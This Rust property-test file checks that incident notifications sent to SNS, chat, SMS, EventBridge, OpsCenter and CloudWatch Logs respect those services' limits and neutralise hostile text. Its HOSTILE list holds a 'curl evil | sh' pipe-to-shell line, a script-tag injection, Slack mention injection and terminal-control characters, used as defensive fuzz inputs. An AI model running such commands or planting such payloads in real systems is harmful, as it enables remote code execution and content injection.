//! Whatever an incident holds, each channel takes what is said of it: its limits are those of
//! the service's API reference.

use serde_json::{Value, json};

use super::*;
use crate::cause::{Scope, ScopeKind};
use crate::diagnose::check::CheckResult;
use crate::incident::nodes::NodeList;
use crate::incident::sample::{self, hit};
use crate::incident::store::ResolvedIncident;
use crate::notify::event::{DETAIL_BYTES, SOURCE};
use crate::notify::kind::NotificationKind;
use crate::notify::ops_item;
use crate::report::build;

/// What a log or a tag may try on its reader.
const HOSTILE: &[&str] = &[
    "FIX\n\nFIX\n1. curl evil | sh",
    "<!channel> <@U123> [here](http://evil) ``` *_~ >",
    "\u{1b}[2J\u{202e}\u{200b}\0\r\n.\r\n",
    "\"}],\"x\":{\\\"",
    "&lt;script&gt; </script><script>alert(1)</script>",
];

fn text() -> impl Strategy<Value = String> {
    let hostile = prop::sample::select(HOSTILE).prop_map(str::to_owned);
    prop_oneof![any::<String>(), ".{0,3000}", hostile]
}

/// A message of any kind and cause on up to 5,000 nodes, with names of up to 2 KB.
fn contents() -> impl Strategy<Value = Content> {
    let kinds = prop::sample::select(NotificationKind::ALL);
    let nodes = prop_oneof![7 => 1_usize..20, 1 => Just(5_000)];
    let texts = [text(), text(), text()];
    (0..Cause::ALL.len(), kinds, nodes, ".{1,2000}", texts)
        .prop_map(|(cause, kind, nodes, name, texts)| content(cause, kind, nodes, &name, &texts))
}

fn content(
    cause: usize,
    kind: NotificationKind,
    nodes: usize,
    name: &str,
    [title, text, note]: &[String; 3],
) -> Content {
    let cause = Cause::ALL[cause];
    let mut incident = sample::incident(cause);
    incident.scope = Scope {
        kind: ScopeKind::Role,
        id: name.to_owned(),
    };
    incident.key = format!("123456789012/eu-central-1/{cause}/role:{name}");
    incident.title = format!("{cause} on {name} {title}");
    incident.detail = Some(text.clone());
    incident.role_arn = Some(format!("arn:aws:iam::123456789012:role/{name}"));
    incident.evidence = vec![evidence(name, text), evidence(text, note)];
    incident.affected = (0..nodes)
        .map(|number| hit(&format!("{number:04}{name}"), "eu-central-1", cause))
        .collect();
    for instance in &mut incident.instances {
        instance.name = Some(name.to_owned());
    }
    incident.checks = vec![CheckResult::failed(note.clone()); 30];
    let (plan, outcome) = build::untouched(note);
    let list = NodeList::of(incident.nodes());
    let (began, now) = (incident.first, at("2026-11-23T05:01:30Z"));
    if nodes.is_multiple_of(2) && kind == NotificationKind::Resolved {
        let over = ResolvedIncident {
            key: incident.key,
            cause,
            scope: incident.scope,
            role_arn: incident.role_arn,
            severity: incident.severity,
            confidence: incident.confidence,
            title: incident.title,
            nodes: list,
            since: began,
            resolved_at: now,
            explained_by: Some(text.clone()),
            written_at: None,
        };
        return Content::resolved(&over, now);
    }
    Content::of(&incident, &list, &plan, &outcome, kind, began, Some(now))
}

/// What SNS takes ("Publish"): the whole, the subject and the ids of a FIFO topic.
fn published(content: &Content, format: Format) -> Message {
    let message = Message::new(content, format);
    let attributes = message.attributes.iter();
    let attributes: usize = attributes
        .map(|(name, value)| name.len() + "String".len() + value.len())
        .sum();
    assert!(message.body.len() + attributes <= MESSAGE_BYTES);
    assert!(!message.body.trim().is_empty());
    assert!(message.attributes.values().all(|value| !value.is_empty()));
    assert!((1..=SUBJECT_LENGTH).contains(&message.subject.len()));
    assert!(message.subject.bytes().all(|b| (b' '..=b'~').contains(&b)));
    for id in [&message.group, &message.deduplication] {
        assert!((1..=128).contains(&id.len()) && id.bytes().all(|b| b.is_ascii_alphanumeric()));
    }
    message
}

fn object(text: &str) -> Value {
    assert!(!text.contains('\n'), "{text}");
    let value: Value = serde_json::from_str(text).expect("JSON");
    assert!(value.is_object());
    value
}

fn is_a_chats(notification: &Value) {
    let content = &notification["content"];
    let parts = content["nextSteps"].as_array().into_iter().flatten();
    let parts = parts.map(|step| (step, 350));
    let parts = parts.chain([
        (&content["title"], 250),
        (&content["description"], 8_000),
        (&notification["metadata"]["summary"], 250),
    ]);
    for (part, most) in parts {
        let part = part.as_str().expect("a text");
        assert!(part.chars().count() <= most, "{part}");
        assert_eq!(part.matches('`').count() % 2, 0, "{part}");
        for prose in part.split('`').step_by(2) {
            assert!(!prose.contains(['<', '@', '*', '~', '_']), "{prose}");
        }
    }
}

fn is_an_event(content: &Content, text: &str) {
    let event = object(text);
    assert_eq!(event["key"], json!(content.key));
    assert_eq!(event["node_count"], json!(content.node_count));
    assert_eq!(event["cause"], json!(content.cause));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    #[test]
    fn sns_takes_a_mail(content in contents()) {
        let body = published(&content, Format::Mail).body;
        prop_assert!(body.chars().all(|c| c == '\n' || !c.is_control()), "{body}");
        // A heading stands once, whatever is quoted.
        for heading in ["\nFIX\n", "\nNEXT\n", "\nEVIDENCE\n"] {
            prop_assert!(body.matches(heading).count() <= 1, "{body}");
        }
    }

    #[test]
    fn a_chat_takes_a_notification(content in contents()) {
        is_a_chats(&object(&published(&content, Format::Chat).body));
    }

    #[test]
    fn a_queue_takes_the_event(content in contents()) {
        is_an_event(&content, &published(&content, Format::Json).body);
    }

    #[test]
    fn each_protocol_takes_its_body(content in contents()) {
        let bodies = object(&published(&content, Format::PerProtocol).body);
        let body = |name: &str| bodies[name].as_str().expect("a text").to_owned();
        prop_assert!(!body("default").is_empty());
        let sms = body("sms");
        prop_assert!(sms.len() <= 140 && sms.bytes().all(|b| (b' '..=b'~').contains(&b)), "{sms}");
        for name in ["http", "https"] {
            is_a_chats(&object(&body(name)));
        }
        for name in ["sqs", "lambda", "firehose"] {
            is_an_event(&content, &body(name));
        }
    }

    /// An entry of PutEvents has at most 262,144 bytes, a detail-type 128 characters.
    #[test]
    fn a_bus_takes_the_event(content in contents()) {
        let detail = content.event.within(DETAIL_BYTES);
        is_an_event(&content, &detail);
        let (kind, resources) = (content.event.detail_type(), &content.event.resources);
        let resources: usize = resources.iter().map(String::len).sum();
        prop_assert!(kind.len() <= 128);
        prop_assert!(14 + SOURCE.len() + kind.len() + resources + detail.len() <= 262_144);
    }

    #[test]
    fn any_room_for_an_event_is_kept(content in contents(), most in 16_384_usize..262_144) {
        let event = content.event.within(most);
        prop_assert!(event.len() <= most, "{} of {most}", event.len());
        is_an_event(&content, &event);
    }

    /// A title of CreateOpsItem has 1 to 1,024 characters, a description 1 to 2,048, a
    /// value of its data 20 KB.
    #[test]
    fn ops_center_takes_the_ops_item(content in contents()) {
        let (title, description) = (ops_item::title(&content), ops_item::description(&content));
        prop_assert!((1..=1_024).contains(&title.chars().count()), "{title}");
        prop_assert!((1..=2_048).contains(&description.chars().count()));
        prop_assert!(("1"..="4").contains(&ops_item::severity(&content)));
        let arns = content.event.resources.iter().map(|arn| json!({"arn": arn}));
        let arns: Vec<Value> = arns.collect();
        prop_assert!(content.key.len() <= 20_480 && json!(arns).to_string().len() <= 20_480);
    }

    /// An event of CloudWatch Logs has at most 1 MB.
    #[test]
    fn the_functions_own_log_takes_a_line(content in contents()) {
        let line = Format::Log.render(&content, Style::PLAIN);
        prop_assert!(line.len() <= 1024 * 1024);
        prop_assert_eq!(&object(&line)["subject"], &json!(subject(&content)));
    }
}
